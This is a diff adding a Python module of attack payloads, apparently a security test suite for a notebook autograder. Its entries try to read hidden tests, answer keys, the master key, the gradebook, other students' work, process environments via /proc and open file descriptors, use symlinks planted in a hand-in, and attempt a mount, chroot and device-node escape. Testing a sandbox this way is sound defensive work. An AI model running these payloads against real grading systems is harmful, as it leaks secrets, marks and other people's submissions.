@@ -1,0 +1,115 @@
+"""Hand-ins that want to see what is not theirs."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from attack import Attack
+
+__all__ = ["READING"]
+
+
+def link_out(name: str, folder: Path) -> None:
+    """A link in the submission to the key of the course."""
+    root = folder.parents[3]
+    (folder / "notes.txt").symlink_to(root / "keys" / "maint.key")
+
+
+def link_to_folder(name: str, folder: Path) -> None:
+    """A linked folder: everything that others have handed in."""
+    (folder / "others").symlink_to(folder.parents[1])
+
+
+READING = [
+    Attack("read-source", "read the source notebook with its hidden tests", """
+from pathlib import Path
+for place in (*Path("../../..").glob("source/*/*.ipynb"), *Path(P["course"]).glob("source/*/*")):
+    print(place.read_text())
+""", loot="source"),
+    Attack("read-answers", "read the answer keys of the labs", """
+from pathlib import Path
+for place in Path(P["project"], "grading", "answers").glob("*.py"):
+    print(place.read_text())
+try:
+    import grading.answers, inspect
+    print(inspect.getsource(grading.answers))
+except ImportError:
+    pass
+""", loot="answers", stock=False),
+    Attack("read-key", "read the master key", """
+print(open(P["key"]).read())
+""", loot="secret key"),
+    Attack("read-gradebook", "read the gradebook with everybody's marks and hidden tests", """
+import sqlite3
+for row in sqlite3.connect(P["gradebook"]).execute("select * from student, source_cell"):
+    print(row)
+""", loot="victim"),
+    Attack("read-others", "read what others handed in", """
+from pathlib import Path
+for step in ("submitted", "autograded"):
+    for place in Path(P["course"], step).glob("*/*/*.ipynb"):
+        print(place.read_text()[-3000:])
+for place in Path("../..").glob("*/*/*.ipynb"):
+    print(place.read_text()[-3000:])
+""", loot="of others"),
+    Attack("read-environment", "read the grader's environment", """
+import os
+print(dict(os.environ))
+""", loot="in environment"),
+    Attack("read-proc", "read the environment of other processes in /proc", """
+import glob
+for place in glob.glob("/proc/*/environ"):
+    try:
+        print(open(place, errors="replace").read())
+    except OSError:
+        pass
+""", loot="in environment"),
+    Attack("read-root-of-parent", "reach the grader's files through /proc/…/root and cwd", """
+import glob, os
+for place in glob.glob("/proc/[0-9]*"):
+    for inner in ("cwd/gradebook.db", "root" + P["key"]):
+        try:
+            open(os.path.join(place, inner)).close()
+            if int(os.path.basename(place)) != os.getpid():
+                print("reached another process")
+        except OSError:
+            pass
+""", loot="reached another process"),
+    Attack("read-open-files", "read through files the grader left open", """
+import glob, os
+for place in glob.glob("/proc/self/fd/*"):
+    try:
+        target = os.readlink(place)
+        print(target)
+        print(open(place).read(2000) if target.startswith(P["root"]) else "")
+    except OSError:
+        pass
+""", loot="secret key"),
+    Attack("read-home", "read files in the grader's home", """
+from pathlib import Path
+for place in (P["home"], "~"):
+    for file in Path(place).expanduser().glob("*.txt"):
+        print(file.read_text())
+""", loot="at home"),
+    Attack("link-out", "a link in the hand-in to the key, read as a file of one's own", """
+print(open("notes.txt").read())
+""", loot="secret key", hand_in=link_out),
+    Attack("link-to-folder", "a linked folder in the hand-in: everything others handed in", """
+from pathlib import Path
+for place in Path("others").rglob("*.ipynb"):
+    print(place.read_text()[-3000:])
+""", loot="of others", hand_in=link_to_folder),
+    Attack("mount-disk", "see the whole disk: mount, new namespaces, device files", """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+tried = {"userns": libc.unshare(0x10000000) if os.getpid() == 1 else -1}
+os.makedirs("m", exist_ok=True)
+tried["mount"] = libc.mount(b"proc", b"m", b"proc", 0, None) if os.getpid() == 1 else -1
+tried["chroot"] = libc.chroot(b"/proc/1/root") if os.getpid() == 1 else -1
+try:
+    os.mknod("disk", 0o60600, os.makedev(8, 0)); tried["mknod"] = 0
+except OSError:
+    tried["mknod"] = -1
+print("privileged" if 0 in tried.values() else "refused", tried)
+""", loot="privileged", harmless=False),
+]  # fmt: skip
